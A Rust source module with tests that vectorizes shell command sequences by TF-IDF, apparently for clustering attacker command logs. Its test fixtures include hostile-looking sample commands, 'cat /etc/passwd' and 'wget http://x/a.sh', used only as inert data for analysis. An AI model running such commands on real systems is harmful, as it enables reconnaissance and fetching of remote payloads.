//! TF-IDF vectorization of command sequences.
//!
//! Terms are lowercase whitespace tokens and adjacent token pairs (1–2-grams).
//! Weights use smoothed inverse document frequency:
//!
//! idf(t) = ln((1 + n) / (1 + df(t))) + 1
//!
//! and every document vector is L2-normalized, so cosine distance reduces to
//! `1 - dot(a, b)`.
//!
//! The vectorizer is owned by the caller and refitted on each corpus it is
//! given; its vocabulary fingerprint is what checkpoints persist.

use std::collections::{BTreeMap, HashMap, HashSet};

use ndarray::{Array1, Array2};
use sha2::{Digest, Sha256};
use tracing::debug;

use crate::error::AnalysisError;

/// Fingerprint returned before the vectorizer has been fitted.
pub const UNFITTED_FINGERPRINT: &str = "unfitted";

/// Term-frequency / inverse-document-frequency vectorizer over 1–2-grams.
#[derive(Debug, Clone)]
pub struct CommandVectorizer {
    max_features: usize,
    vocabulary: BTreeMap<String, usize>,
    idf: Vec<f64>,
}

impl CommandVectorizer {
    pub fn new(max_features: usize) -> Self {
        Self {
            max_features: max_features.max(1),
            vocabulary: BTreeMap::new(),
            idf: Vec::new(),
        }
    }

    pub fn is_fitted(&self) -> bool {
        !self.vocabulary.is_empty()
    }

    /// Learns the vocabulary and idf weights, replacing any previous fit.
    ///
    /// Fails with [`AnalysisError::InsufficientData`] when the corpus yields
    /// no terms; the previous state is cleared in that case.
    pub fn fit<S: AsRef<str>>(&mut self, documents: &[S]) -> Result<usize, AnalysisError> {
        self.vocabulary.clear();
        self.idf.clear();

        let mut term_counts: HashMap<String, usize> = HashMap::new();
        let mut doc_freq: HashMap<String, usize> = HashMap::new();
        for doc in documents {
            let terms = ngrams(doc.as_ref());
            for term in &terms {
                *term_counts.entry(term.clone()).or_insert(0) += 1;
            }
            for term in terms.into_iter().collect::<HashSet<_>>() {
                *doc_freq.entry(term).or_insert(0) += 1;
            }
        }

        if term_counts.is_empty() {
            return Err(AnalysisError::InsufficientData {
                required: 1,
                actual: 0,
            });
        }

        // Keep the most frequent terms; ties resolve lexically.
        let mut ranked: Vec<(String, usize)> = term_counts.into_iter().collect();
        ranked.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
        ranked.truncate(self.max_features);

        let mut terms: Vec<String> = ranked.into_iter().map(|(term, _)| term).collect();
        terms.sort();

        let n = documents.len() as f64;
        for (index, term) in terms.into_iter().enumerate() {
            let df = doc_freq.get(&term).copied().unwrap_or(0) as f64;
            self.idf.push(((1.0 + n) / (1.0 + df)).ln() + 1.0);
            self.vocabulary.insert(term, index);
        }

        debug!(
            "Fitted vectorizer: {} documents, {} features",
            documents.len(),
            self.vocabulary.len()
        );
        Ok(self.vocabulary.len())
    }

    /// Vectorizes one document against the fitted vocabulary. Unknown terms
    /// are ignored; an unfitted vectorizer yields an empty vector.
    pub fn transform(&self, document: &str) -> Array1<f64> {
        let mut vector: Array1<f64> = Array1::zeros(self.idf.len());
        for term in ngrams(document) {
            if let Some(&index) = self.vocabulary.get(&term) {
                vector[index] += self.idf[index];
            }
        }
        let norm = vector.dot(&vector).sqrt();
        if norm > 0.0 {
            vector /= norm;
        }
        vector
    }

    /// One row per document.
    pub fn transform_batch<S: AsRef<str>>(&self, documents: &[S]) -> Array2<f64> {
        let mut matrix = Array2::zeros((documents.len(), self.idf.len()));
        for (mut row, doc) in matrix.rows_mut().into_iter().zip(documents) {
            row.assign(&self.transform(doc.as_ref()));
        }
        matrix
    }

    /// SHA-256 over the sorted `term:index` pairs, or [`UNFITTED_FINGERPRINT`].
    pub fn vocabulary_fingerprint(&self) -> String {
        if !self.is_fitted() {
            return UNFITTED_FINGERPRINT.to_string();
        }
        let mut hasher = Sha256::new();
        for (term, index) in &self.vocabulary {
            hasher.update(term.as_bytes());
            hasher.update(b":");
            hasher.update(index.to_string().as_bytes());
            hasher.update(b"\n");
        }
        hex::encode(hasher.finalize())
    }
}

impl Default for CommandVectorizer {
    fn default() -> Self {
        Self::new(1000)
    }
}

/// Lowercased unigrams followed by space-joined bigrams.
fn ngrams(document: &str) -> Vec<String> {
    let tokens: Vec<String> = document
        .split_whitespace()
        .map(str::to_lowercase)
        .collect();
    let bigrams = tokens.windows(2).map(|pair| format!("{} {}", pair[0], pair[1]));
    tokens.iter().cloned().chain(bigrams).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cluster::CosineDist;
    use linfa_nn::distance::Distance;

    #[test]
    fn test_ngrams() {
        assert_eq!(
            ngrams("Uname -a  LS"),
            vec!["uname", "-a", "ls", "uname -a", "-a ls"]
        );
        assert!(ngrams("   ").is_empty());
    }

    fn terms(v: &CommandVectorizer) -> Vec<&str> {
        v.vocabulary.keys().map(String::as_str).collect()
    }

    #[test]
    fn test_fit_vocabulary_and_idf() {
        let mut v = CommandVectorizer::default();
        let size = v.fit(&["ls", "ls whoami"]).unwrap();
        assert_eq!(size, 3);
        assert_eq!(terms(&v), vec!["ls", "ls whoami", "whoami"]);
        // "ls" appears in both documents: ln(3/3) + 1 = 1.
        assert!((v.idf[0] - 1.0).abs() < 1e-12);
        assert!((v.idf[2] - ((3.0f64 / 2.0).ln() + 1.0)).abs() < 1e-12);
    }

    #[test]
    fn test_transform_is_normalized() {
        let docs = ["cat /etc/passwd", "wget http://x/a.sh", "cat /etc/passwd"];
        let mut v = CommandVectorizer::default();
        v.fit(&docs).unwrap();
        let matrix = v.transform_batch(&docs);
        assert_eq!(matrix.dim(), (3, v.vocabulary.len()));
        for row in matrix.rows() {
            assert!((row.dot(&row) - 1.0).abs() < 1e-12);
        }
        assert!(CosineDist.distance(matrix.row(0), matrix.row(2)) < 1e-12);
        assert!((CosineDist.distance(matrix.row(0), matrix.row(1)) - 1.0).abs() < 1e-12);
    }

    #[test]
    fn test_max_features_keeps_most_frequent() {
        let mut v = CommandVectorizer::new(2);
        v.fit(&["a b", "a c", "a b"]).unwrap();
        // Counts: a=3, b=2, "a b"=2, c=1, "a c"=1; "a b" < "b" lexically.
        assert_eq!(terms(&v), vec!["a", "a b"]);
    }

    #[test]
    fn test_unknown_terms_and_zero_vectors() {
        let mut v = CommandVectorizer::default();
        assert_eq!(v.transform("ls").len(), 0);

        v.fit(&["ls"]).unwrap();
        let unknown = v.transform("reboot");
        assert_eq!(unknown, Array1::from(vec![0.0]));
        assert_eq!(CosineDist.distance(unknown.view(), v.transform("ls").view()), 1.0);
        assert_eq!(v.transform("LS ls"), Array1::from(vec![1.0]));
    }

    #[test]
    fn test_empty_corpus_fails_and_clears() {
        let mut v = CommandVectorizer::default();
        v.fit(&["ls"]).unwrap();
        assert!(v.is_fitted());
        let err = v.fit(&["  ", ""]).unwrap_err();
        assert!(matches!(err, AnalysisError::InsufficientData { .. }));
        assert!(!v.is_fitted());
    }

    #[test]
    fn test_vocabulary_fingerprint() {
        let mut v = CommandVectorizer::default();
        assert_eq!(v.vocabulary_fingerprint(), UNFITTED_FINGERPRINT);

        v.fit(&["ls -la", "whoami"]).unwrap();
        let first = v.vocabulary_fingerprint();
        assert_eq!(first.len(), 64);

        v.fit(&["whoami", "ls -la"]).unwrap();
        assert_eq!(v.vocabulary_fingerprint(), first);

        v.fit(&["ls -la", "whoami", "uname"]).unwrap();
        assert_ne!(v.vocabulary_fingerprint(), first);
    }
}
